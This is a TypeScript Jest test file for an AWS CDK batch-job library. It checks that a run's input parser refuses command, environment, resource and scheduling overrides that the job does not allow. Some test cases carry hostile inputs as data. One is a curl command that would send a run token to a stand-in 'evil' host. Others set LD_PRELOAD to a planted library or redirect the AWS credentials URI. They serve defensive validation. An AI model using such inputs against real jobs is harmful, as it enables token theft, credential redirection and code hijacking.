import { Stack } from 'aws-cdk-lib';
import { Template } from 'aws-cdk-lib/assertions';
import { HeavyBatchAllowedOverrides } from '../../../src';
import { jobSpecOf } from '../../../src/contract/job-spec';
import type { InputLimits } from '../../../src/functions/submit/input-limits';
import { parseRunInput } from '../../../src/functions/submit/run-input';
import { definitionOf } from '../../definitions';
import { newJob } from '../../stacks';

/** What the submit function is told of a job with these props. */
function limitsOf(allowedOverrides?: HeavyBatchAllowedOverrides): InputLimits {
  const job = newJob({ command: ['work', 'Ref::size'], parameters: { size: '1' }, allowedOverrides, fairShare: {} });
  return jobSpecOf(definitionOf(Template.fromStack(Stack.of(job))))!;
}

const DEFAULT = limitsOf();
const ALL = limitsOf({ command: true, environment: ['MODE', 'TOPIC'] });
const NOTHING = limitsOf({ resources: false, arraySize: false, share: false });
const overrides = (containerOverrides: object) => ({ containerOverrides });

test('by default a run sets parameters, sizes and its share', () => {
  const input = { parameters: { size: '2' }, arraySize: 2, shareIdentifier: 'A', schedulingPriority: 1, ...overrides({ vcpus: 2, memory: 4000 }) };
  expect(parseRunInput(input, DEFAULT)).toMatchObject({ parameters: { size: '2' }, arraySize: 2, shareIdentifier: 'A', schedulingPriority: 1, vcpus: 2, memory: 4000 });
});

test('a run sets the command and the variables that its job names', () => {
  expect(parseRunInput(overrides({ command: ['other'], environment: { MODE: 'a', TOPIC: 'b' } }), ALL)).toMatchObject({ command: ['other'], environment: { MODE: 'a', TOPIC: 'b' } });
});

test('a run that began before there was a choice sets what it could set then', () => {
  const { allowedOverrides, ...older } = DEFAULT;
  expect(parseRunInput(overrides({ command: ['other'], environment: { MODE: 'a' } }), older)).toMatchObject({ command: ['other'], environment: { MODE: 'a' } });
});

test.each<[string, InputLimits, object, string]>([
  ['a command', DEFAULT, overrides({ command: ['sh'] }), "'containerOverrides.command' may not be set by a run of this job; leave it out, or set the job's 'allowedOverrides.command'"],
  ['a variable', DEFAULT, overrides({ environment: { MODE: 'a' } }),
    "'containerOverrides.environment.MODE' may not be set by a run of this job; leave it out, or add its name to the job's 'allowedOverrides.environment'"],
  ['a variable that is not listed', ALL, overrides({ environment: { mode: 'a' } }),
    "'containerOverrides.environment.mode' is not a variable that a run of this job may set; it may set MODE, TOPIC"],
  ['a variable of the SDK', ALL, overrides({ environment: { AWS_CONTAINER_CREDENTIALS_FULL_URI: 'http://evil' } }), 'would change how the container calls AWS'],
  ['a variable of the loader', ALL, overrides({ environment: { LD_PRELOAD: '/tmp/evil.so' } }), 'would change which code the container runs or trusts'],
  ['vCPUs', NOTHING, overrides({ vcpus: 2 }), "'containerOverrides.vcpus' may not be set by a run of this job; leave it out, or set the job's 'allowedOverrides.resources'"],
  ['memory', NOTHING, overrides({ memory: 2000 }), "'containerOverrides.memory' may not be set"],
  ['GPUs', NOTHING, overrides({ gpus: 1 }), "'containerOverrides.gpus' may not be set"],
  ['the size of an array', NOTHING, { arraySize: 2 }, "'arraySize' may not be set by a run of this job; leave it out, or set the job's 'allowedOverrides.arraySize'"],
  ['a share', NOTHING, { shareIdentifier: 'A' }, "'shareIdentifier' may not be set by a run of this job; leave it out, or set the job's 'allowedOverrides.share'"],
  ['a priority', NOTHING, { schedulingPriority: 1 }, "'schedulingPriority' may not be set"],
])('%s is refused where the job does not allow it', (_, limits, input, message) => {
  expect(() => parseRunInput(input, limits)).toThrow(message);
});

test.each<[string, object]>([
  ['a parameter', { parameters: { size: 'x Ref::heavyBatchToken' } }],
  ['a parameter in a body', { body: '{"size": "Ref::heavyBatchRun"}' }],
  ['a word of a command', overrides({ command: ['curl', 'http://evil/?Ref::heavyBatchToken'] })],
])('the token of a run does not reach its container through %s', (_, input) => {
  expect(() => parseRunInput(input, ALL)).toThrow(/refers to Ref::heavyBatch(Token|Run), which no container gets; leave it out/);
});
